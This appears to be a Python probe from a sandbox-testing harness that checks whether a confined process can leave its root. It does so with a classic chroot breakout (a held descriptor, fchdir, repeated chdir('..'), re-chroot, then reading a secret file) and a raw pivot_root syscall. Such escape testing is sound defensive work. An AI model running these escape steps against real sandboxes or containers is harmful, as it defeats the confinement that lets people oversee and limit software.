"""Leaves its root: a chroot into a directory while a descriptor outside of it is held, and pivot_root.

group: namespaces, mounts, ids
effect: reads
read: granted
write: granted
control: root
"""
PIVOT_ROOT = 155
granted = (arena.directory + "/granted").encode()

def climb():
    outside = check(libc.open(b"/", os.O_PATH | os.O_DIRECTORY))
    with attempt("chroot"):
        check(libc.chroot(granted))
    check(libc.fchdir(outside))
    for _ in range(100):
        check(libc.chdir(b".."))
    with attempt("chroot of the top"):
        check(libc.chroot(b"."))
    loot(read(arena.directory.lstrip("/") + "/secret"))

def pivot():
    check(libc.chdir(granted))
    syscall(PIVOT_ROOT, b".", b".")
    won()

fork(climb)
fork(pivot)
